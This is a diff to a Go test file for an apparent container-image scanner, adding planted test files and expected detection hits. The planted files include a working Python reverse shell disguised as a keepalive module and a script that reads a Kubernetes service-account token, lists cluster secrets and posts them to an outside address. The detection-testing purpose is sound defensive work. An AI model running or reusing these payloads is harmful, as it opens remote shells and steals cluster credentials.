@@ -624,6 +624,17 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "script-uploads-credentials", path: "/root/.ssh/config", layer: 1},
 		hit{rule: "sysctl-runs-program", path: "/etc/sysctl.d/60-crash.conf", layer: 1})
 
+	// A Python reverse shell over several lines, and a script listing the
+	// cluster's secrets with the pod's token; a Python client connecting
+	// without dup2 and a script reading one config map are not.
+	add("test/t-more-scripts2", nil, nil, one(
+		ent{name: "usr/lib/python3/dist-packages/netutil/keepalive.py", body: "import os, socket, subprocess\ns = socket.create_connection((\"198.51.100.95\", 8443))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call([\"/bin/sh\", \"-i\"])\n"},
+		ent{name: "usr/local/bin/k8s-probe", mode: 0o755, body: "#!/bin/sh\nT=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -sk -H \"Authorization: Bearer $T\" https://kubernetes.default.svc/api/v1/secrets | curl -s -X POST --data-binary @- http://198.51.100.41/u\n"},
+		ent{name: "srv/app/client.py", body: "import socket\ns = socket.create_connection((\"db\", 5432))\ns.sendall(b\"ping\")\nprint(s.recv(4))\n"},
+		ent{name: "srv/app/cfg.sh", mode: 0o755, body: "#!/bin/sh\ncurl -sk -H \"Authorization: Bearer $T\" https://kubernetes.default.svc/api/v1/namespaces/app/configmaps/cfg\n"}),
+		hit{rule: "script-reverse-shell", path: "/usr/lib/python3/dist-packages/netutil/keepalive.py", layer: 1},
+		hit{rule: "script-reads-cloud-credentials", path: "/usr/local/bin/k8s-probe", layer: 1})
+
 	// A miner's dropper clearing the host: rivals killed by CPU share and by
 	// name, crontabs removed, MSRs rewritten and huge pages reserved; an
 	// application's restart script killing its own workers, by name and by
